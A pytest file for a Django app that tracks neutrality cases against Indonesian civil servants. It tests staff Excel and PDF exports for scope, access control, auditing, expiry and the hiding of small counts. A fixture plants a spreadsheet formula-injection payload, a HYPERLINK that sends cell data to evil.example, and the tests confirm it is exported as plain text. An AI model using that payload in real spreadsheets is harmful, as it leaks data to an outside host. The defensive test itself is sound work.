"""Staff exports (issue #12 item 3): the queue as Excel — the queue's rows and filters, the user's
scope, no reporter data, no formula — the period report as PDF, both in the background when large,
for the user who asked only, audited, deleted after their time."""

import datetime
import io
import subprocess
import zipfile
from pathlib import Path

import pytest
from django.core.files.storage import default_storage
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from pypdf import PdfReader

from conftest import verified_login
from netra.audit.models import AuditEvent
from netra.cases.models import Case, Report, Subject
from netra.cases.tests.factories import case_in
from netra.cases.tests.fixtures import private_media  # noqa: F401 -- files in a throwaway MEDIA_ROOT
from netra.catalog.models import Election
from netra.insights.exports import process_export
from netra.insights.models import Export

pytestmark = pytest.mark.django_db
QUEUE = reverse("workspace:home")
START = reverse("insights_staff:export_queue")
REPORT = reverse("insights_staff:export_report")
S = Case.Status


def at(day: datetime.date) -> datetime.datetime:
    return timezone.make_aware(datetime.datetime.combine(day, datetime.time(12)))


@pytest.fixture
def pilkada(db):
    return Election.objects.create(code="pilkada-2024", name="Pilkada 2024", kind="pilkada", voting_date="2024-11-27")


@pytest.fixture
def world(agencies, pilkada):
    """Katingan: 5 Pilkada cases (one with hostile subject text), 2 without election; Barito Selatan: 3 Pilkada."""
    katingan, barsel = agencies["pemkab-katingan"], agencies["pemkab-barito-selatan"]
    k = [
        case_in(S.CHECKING, agency=katingan, election=pilkada, created_at=at(datetime.date(2024, 11, 1 + i)))
        for i in range(5)
    ]
    k += [case_in(S.VERIFICATION, agency=katingan, created_at=at(datetime.date(2024, 10, 3))) for _ in range(2)]
    b = [
        case_in(
            S.CHECKING, agency=barsel, election=pilkada, region_id="62.04", created_at=at(datetime.date(2024, 11, 15))
        )
        for _ in range(3)
    ]
    hostile = k[0]
    Subject.objects.filter(case=hostile).update(
        name='=HYPERLINK("http://evil.example/?x="&A1,"klik")', position="+62 812", unit="@SUM(A1:A9)", nip=None
    )
    Report.objects.filter(case=hostile).update(contact="WhatsApp: 081234567890")
    return {"katingan": k, "barsel": b, "hostile": hostile}


def client_for(user) -> Client:
    return verified_login(Client(), user)


def start(client, **params) -> Export:
    response = client.post(START, params)
    assert response.status_code == 302, response.content
    return Export.objects.get(pk=int(response["Location"].rstrip("/").split("/")[-1]))


def workbook(client, export: Export):
    response = client.get(reverse("insights_staff:export_download", args=[export.pk]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    data = b"".join(response.streaming_content)
    return load_workbook(io.BytesIO(data)), data


def queue_numbers(client, **params) -> list[str]:
    response = client.get(QUEUE, params)
    return [case.number for case in response.context["page"].all_rows]


def test_the_file_holds_exactly_the_queues_rows_in_its_order(satgas_katingan, world):
    client = client_for(satgas_katingan)
    params = {"status": "all", "election": "pilkada-2024"}
    export = start(client, **params)
    assert export.state == Export.State.DONE
    book, _ = workbook(client, export)
    assert book.sheetnames == ["Keterangan", "Data"]
    rows = list(book["Data"].values)
    assert rows[0][:3] == ("Nomor kasus", "Diterima", "Status")
    numbers = [row[0] for row in rows[1:]]
    assert numbers == queue_numbers(client, **params)
    assert len(numbers) == 5
    # Another agency's cases are never in the file, whatever the filter.
    assert not {c.number for c in world["barsel"]} & set(numbers)


def test_the_header_sheet_says_what_when_who_how_many_and_the_scope(satgas_katingan, world):
    client = client_for(satgas_katingan)
    export = start(client, status="all", election="pilkada-2024", received_from="2024-11-02")
    book, _ = workbook(client, export)
    info = {row[0]: row[1] for row in book["Keterangan"].values if row and row[0]}
    assert info["Jumlah baris"] == 4 == len(list(book["Data"].values)) - 1
    assert "satgas.katingan" in info["Oleh"]
    assert "Pemerintah Kabupaten Katingan" in info["Jangkauan"] or "Katingan" in info["Jangkauan"]
    assert info["Pemilihan"] == "Pilkada 2024"
    assert info["Diterima dari"] == "02-11-2024"
    assert info["Status"] == "Semua"
    assert info["Dibuat"] == timezone.localtime().strftime("%d-%m-%Y %H:%M") or info["Dibuat"][:10] == (
        timezone.localdate().strftime("%d-%m-%Y")
    )


def test_the_default_tab_is_the_queues_default_too(satgas_katingan, world):
    client = client_for(satgas_katingan)
    export = start(client)  # no parameter: the queue shows the active cases
    book, _ = workbook(client, export)
    assert [row[0] for row in list(book["Data"].values)[1:]] == queue_numbers(client)
    assert {row[0]: row[1] for row in book["Keterangan"].values if row and row[0]}["Status"] == "Semua yang aktif"


def test_a_value_that_looks_like_a_formula_is_written_as_text(satgas_katingan, world):
    client = client_for(satgas_katingan)
    export = start(client, status="all", q=world["hostile"].number)
    book, data = workbook(client, export)
    header, row = list(book["Data"].iter_rows())[:2]
    cells = {h.value: c for h, c in zip(header, row, strict=True)}
    for column, value in (
        ("Nama terlapor", '=HYPERLINK("http://evil.example/?x="&A1,"klik")'),
        ("Jabatan terlapor", "+62 812"),
        ("OPD", "@SUM(A1:A9)"),
    ):
        assert cells[column].value == value
        assert cells[column].data_type == "s"
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet2.xml").decode()
    assert "<f>" not in sheet  # not one formula in the file


def test_reporter_data_never_enters_the_file(satgas_katingan, world):
    """Even for the owning Satgas, who may see the contact on the case page."""
    client = client_for(satgas_katingan)
    export = start(client, status="all")
    _, data = workbook(client, export)
    text = b"".join(
        zipfile.ZipFile(io.BytesIO(data)).read(name) for name in zipfile.ZipFile(io.BytesIO(data)).namelist()
    )
    assert b"081234567890" not in text
    for receipt in Report.objects.values_list("receipt_code", flat=True):
        assert receipt.encode() not in text


def test_only_the_user_who_asked_downloads_it(satgas_katingan, lead_katingan, satgas_barsel, world):
    export = start(client_for(satgas_katingan), status="all")
    for url in (
        reverse("insights_staff:export_status", args=[export.pk]),
        reverse("insights_staff:export_download", args=[export.pk]),
    ):
        assert client_for(lead_katingan).get(url).status_code == 404  # same agency: still not theirs
        assert client_for(satgas_barsel).get(url).status_code == 404
        anonymous = Client().get(url)
        assert anonymous.status_code == 302 and "next=" in anonymous["Location"]
    assert Client().post(START, {"status": "all"}).status_code == 302
    assert Export.objects.count() == 1


def test_a_member_who_reads_no_case_has_no_export(admin_katingan, world):
    client = client_for(admin_katingan)
    assert client.get(START).status_code == 404
    assert client.post(START, {"status": "all"}).status_code == 404
    assert client.get(REPORT).status_code == 404
    assert not Export.objects.exists()


def test_an_agency_outside_the_scope_exports_nothing_and_says_so(satgas_katingan, agencies, world):
    client = client_for(satgas_katingan)
    export = start(client, status="all", agency=str(agencies["pemkab-barito-selatan"].pk))
    book, _ = workbook(client, export)
    assert len(list(book["Data"].values)) == 1  # the header row only
    info = {row[0]: row[1] for row in book["Keterangan"].values if row and row[0]}
    assert "di luar jangkauan" in info["Instansi"]


def test_a_large_export_runs_in_the_background_with_progress(
    satgas_katingan, world, settings, django_capture_on_commit_callbacks
):
    from django_tasks_db.models import DBTaskResult

    settings.NETRA_EXPORT_INLINE_ROWS = 3
    client = client_for(satgas_katingan)
    with django_capture_on_commit_callbacks(execute=True):
        export = start(client, status="all")
    assert export.state == Export.State.PENDING and not export.file
    assert DBTaskResult.objects.get().args_kwargs["args"] == [export.pk]
    status = client.get(reverse("insights_staff:export_status", args=[export.pk]), headers={"HX-Request": "true"})
    assert b'hx-trigger="every 2s"' in status.content and b'value="0"' in status.content
    assert client.get(reverse("insights_staff:export_download", args=[export.pk])).status_code == 404  # not ready
    export = process_export(export.pk)  # what the worker runs
    assert export.state == Export.State.DONE and export.processed_rows == export.total_rows == 7
    assert process_export(export.pk).file.name == export.file.name  # a second run changes nothing
    status = client.get(reverse("insights_staff:export_status", args=[export.pk]), headers={"HX-Request": "true"})
    assert b"every 2s" not in status.content and b"export-download" in status.content
    book, _ = workbook(client, export)
    assert len(list(book["Data"].values)) == 8


def test_every_export_is_audited_without_its_content(satgas_katingan, world):
    client = client_for(satgas_katingan)
    export = start(client, status="all", election="pilkada-2024")
    workbook(client, export)
    events = {e.action: e for e in AuditEvent.objects.filter(action__startswith="export.")}
    assert set(events) == {"export.requested", "export.completed", "export.downloaded"}
    assert all(e.actor_id == satgas_katingan.pk and e.object_id == str(export.pk) for e in events.values())
    requested = events["export.requested"].payload
    assert requested["params"]["election"] == "pilkada-2024" and requested["rows"] == 5
    assert events["export.completed"].payload["rows"] == 5
    payloads = str([e.payload for e in events.values()])
    assert not any(c.number in payloads for c in world["katingan"])


def test_an_export_is_deleted_after_its_time(satgas_katingan, world, settings):
    settings.NETRA_EXPORT_KEEP_HOURS = 2
    client = client_for(satgas_katingan)
    export = start(client, status="all")
    name = export.file.name
    assert default_storage.exists(name)
    assert export.expires_at - export.created_at == pytest.approx(
        datetime.timedelta(hours=2), abs=datetime.timedelta(seconds=5)
    )
    call_command("purge_exports", stdout=io.StringIO())
    assert Export.objects.filter(pk=export.pk).exists()  # not yet
    Export.objects.filter(pk=export.pk).update(expires_at=timezone.now() - datetime.timedelta(seconds=1))
    assert client.get(reverse("insights_staff:export_download", args=[export.pk])).status_code == 404  # past its time
    call_command("purge_exports", stdout=io.StringIO())
    assert not Export.objects.filter(pk=export.pk).exists()
    assert not default_storage.exists(name)
    assert AuditEvent.objects.filter(action="export.removed", object_id=str(export.pk)).exists()


def test_the_queue_offers_the_export_with_its_filters(satgas_katingan, world):
    client = client_for(satgas_katingan)
    page = client.get(QUEUE, {"status": "all", "election": "pilkada-2024"}).content.decode()
    assert f'href="{START}?status=all&amp;election=pilkada-2024"' in page
    confirm = client.get(START, {"status": "all", "election": "pilkada-2024"})
    assert confirm.status_code == 200 and confirm.context["total"] == 5
    assert b"Pilkada 2024" in confirm.content


# --- the period report -----------------------------------------------------------------------------


def pdf_of(client, export: Export) -> bytes:
    response = client.get(reverse("insights_staff:export_download", args=[export.pk]))
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    return b"".join(response.streaming_content)


def after(name: str, text: str) -> str:
    """The first figure after a region's name in the region table."""
    line = next(line for line in text.splitlines() if line.startswith("Kabupaten " + name))
    return line.removeprefix("Kabupaten " + name).split()[0]


def report(client, **values) -> Export:
    response = client.post(REPORT, values)
    assert response.status_code == 302, response.content.decode()[:2000]
    return Export.objects.get(pk=int(response["Location"].rstrip("/").split("/")[-1]))


def test_the_report_pdf_has_pages_figures_and_charts(bkn_kanreg, world, tmp_path):
    client = client_for(bkn_kanreg)
    export = report(client, election="pilkada-2024", period="2024", audience="internal")
    assert export.state == Export.State.DONE, export.state
    data = pdf_of(client, export)
    reader = PdfReader(io.BytesIO(data))
    assert len(reader.pages) >= 2
    text = "\n".join(page.extract_text() for page in reader.pages)
    assert "Laporan periode netralitas ASN" in text and "Pilkada 2024" in text
    assert "Katingan" in text and "Barito Selatan" in text
    assert "INTERNAL" in text
    (tmp_path / "r.pdf").write_bytes(data)
    subprocess.run(["pdftoppm", "-r", "40", "-png", str(tmp_path / "r.pdf"), str(tmp_path / "page")], check=True)
    pngs = sorted(Path(tmp_path).glob("page*.png"))
    assert len(pngs) == len(reader.pages)
    assert all(p.stat().st_size > 1000 for p in pngs)


def test_a_report_for_the_public_hides_small_counts_and_says_so(bkn_kanreg, world):
    client = client_for(bkn_kanreg)
    text = "\n".join(
        p.extract_text() for p in PdfReader(io.BytesIO(pdf_of(client, report(client, audience="public")))).pages
    )
    # Barito Selatan has 3 cases: below the threshold (5), so hidden, and Katingan's 7 with it
    # (the total minus Katingan would give Barito Selatan back).
    assert "disembunyikan" in text and "Angka kecil disembunyikan" in text
    assert after("Barito Selatan", text) == "disembunyikan"
    assert after("Katingan", text) == "disembunyikan"
    internal = "\n".join(
        p.extract_text() for p in PdfReader(io.BytesIO(pdf_of(client, report(client, audience="internal")))).pages
    )
    assert after("Barito Selatan", internal) == "3" and after("Katingan", internal) == "7"


def test_report_numbers_are_written_the_indonesian_way(bkn_kanreg, agencies, pilkada, settings):
    katingan = agencies["pemkab-katingan"]
    Case.objects.bulk_create(
        [
            Case(
                number=f"NTR-2024-8{i:05d}",
                agency=katingan,
                region_id="62.06",
                incident_date="2024-11-01",
                election=pilkada,
            )
            for i in range(1234)
        ]
    )
    client = client_for(bkn_kanreg)
    text = "\n".join(
        p.extract_text() for p in PdfReader(io.BytesIO(pdf_of(client, report(client, audience="internal")))).pages
    )
    assert "1.234" in text and "100,0 %" in text


def test_a_bad_report_request_says_why_in_indonesian(bkn_kanreg, satgas_katingan, world):
    client = client_for(bkn_kanreg)
    response = client.post(REPORT, {"period": "11-2024", "audience": "public"})
    assert response.status_code == 422
    assert "Periode ditulis TTTT atau TTTT-BB" in response.content.decode()
    # A region outside the user's scope is refused, not reported on.
    response = client_for(satgas_katingan).post(REPORT, {"region": "62.04", "audience": "public"})
    assert response.status_code == 422 and "di luar jangkauan" in response.content.decode()
    assert not Export.objects.exists()


def test_the_report_keeps_to_the_scope(satgas_katingan, world):
    client = client_for(satgas_katingan)
    text = "\n".join(
        p.extract_text() for p in PdfReader(io.BytesIO(pdf_of(client, report(client, audience="internal")))).pages
    )
    assert "Katingan" in text and "Barito Selatan" not in text
